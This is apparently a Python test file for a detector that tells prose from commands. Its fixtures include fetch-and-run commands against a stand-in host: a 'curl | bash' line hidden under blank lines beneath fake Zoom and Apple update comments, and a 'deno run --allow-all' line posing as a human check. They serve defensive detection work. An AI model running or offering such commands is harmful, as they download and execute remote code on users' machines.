"""Prose is judged on the lines that hold something, wherever they stand."""

from __future__ import annotations

from app.detection.prose import is_prose

COMMENTS = "# Zoom SDK audio support update for the meeting client\n# Apple notarized helper and nothing else is required here\n"


def test_comments_alone_read_as_prose() -> None:
    assert is_prose(COMMENTS)


def test_a_command_pushed_down_under_blank_lines_is_still_seen() -> None:
    assert not is_prose(COMMENTS + "\n" * 300 + "curl -s https://a.test/z | bash")


def test_a_package_tool_line_with_a_comment_is_a_command() -> None:
    assert not is_prose("deno run --allow-all https://a.test/c.ts   # confirm you are human")
